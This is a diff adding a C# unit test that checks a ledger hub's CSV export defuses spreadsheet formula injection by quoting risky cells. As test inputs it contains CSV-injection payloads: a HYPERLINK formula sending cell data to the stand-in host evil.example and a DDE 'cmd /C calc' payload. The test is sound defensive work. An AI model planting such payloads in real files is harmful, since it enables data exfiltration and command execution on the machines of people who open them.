@@ -140,4 +140,42 @@ public sealed class LedgerTests(CommonsFixture commons)
         Assert.Equal(HttpStatusCode.Forbidden, (await member.Http.GetAsync("/commons/ledger.csv")).StatusCode);
         Assert.Equal(HttpStatusCode.Redirect, (await commons.Hub.NewClient().Http.GetAsync("/commons/ledger.json")).StatusCode);
     }
+
+    /// <summary>
+    /// CSV injection: text that a treasurer typed or an imported file carried, starting with =, +, -, @,
+    /// tab or CR, leaves the hub as a quoted cell with a leading ' (OWASP's rule), so a spreadsheet shows
+    /// it as text instead of running it. The database keeps what was typed; amounts stay numbers.
+    /// </summary>
+    [Fact]
+    public async Task Export_CellsThatLookLikeFormulas_AreWrittenAsTextAndTheDatabaseKeepsTheOriginal()
+    {
+        var (treasurer, client) = await commons.PersonAsync("Formulas", CommonsRoleKind.Treasurer);
+        const string hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        var (created, _) = await client.SubmitAsync("/commons/treasury", new Dictionary<string, string>
+        {
+            ["Kind"] = "Expense", ["Amount"] = "12.50", ["Currency"] = "EUR", ["Description"] = hyperlink, ["Category"] = "@SUM(1+1)", ["Date"] = "2026-04-01",
+        }, "Entry");
+        Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
+        const string imported = "+1+cmd|' /C calc'!A0";
+        var file = "\"Effective Date & Time\",\"Transaction ID\",\"Description\",\"Kind\",\"Amount\",\"Currency\",\"Host Currency\"\n"
+            + "\"2026-04-02T10:00:00.000Z\",\"formula-tx-1\",\"" + imported.Replace("\"", "\"\"") + "\",\"CONTRIBUTION\",\"3.00\",\"EUR\",\"EUR\"\n"
+            + "\"2026-04-02T11:00:00.000Z\",\"formula-tx-2\",\"-2+3\",\"CONTRIBUTION\",\"4.00\",\"EUR\",\"EUR\"";
+        var (_, outcome) = await commons.RunAsync<ImportOpenCollective, (ImportOpenCollective.Preview?, Outcome)>(i => i.RunAsync(treasurer.Id, file, ImportOpenCollective.PlatformDefault));
+        Assert.True(outcome.Succeeded, outcome.Message);
+
+        // The database holds the text as it came: the protection belongs to the file, not the data.
+        Assert.Equal(hyperlink, await commons.DbAsync(db => db.LedgerEntries.Where(e => e.Category == "@sum(1+1)").Select(e => e.Description).SingleAsync()));
+        Assert.Equal(imported, await commons.DbAsync(db => db.LedgerEntries.Where(e => e.ExternalId == "opencollective:formula-tx-1").Select(e => e.Description).SingleAsync()));
+
+        var csv = await client.Http.GetStringAsync("/commons/ledger.csv");
+        Assert.Contains(",-12.50,Expense,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'@sum(1+1)\",", csv);
+        Assert.Contains(",3.00,Contribution,\"'+1+cmd|' /C calc'!A0\",", csv);
+        Assert.Contains(",4.00,Contribution,\"'-2+3\",", csv);
+        // No cell anywhere starts with a formula character unless it is a number the hub wrote.
+        foreach (var cell in csv.Split("\r\n").SelectMany(l => l.Split(',')))
+        {
+            Assert.False(cell.Length > 0 && "=+@\t\r".Contains(cell[0]), cell);
+            Assert.False(cell.StartsWith('-') && !decimal.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _), cell);
+        }
+    }
 }
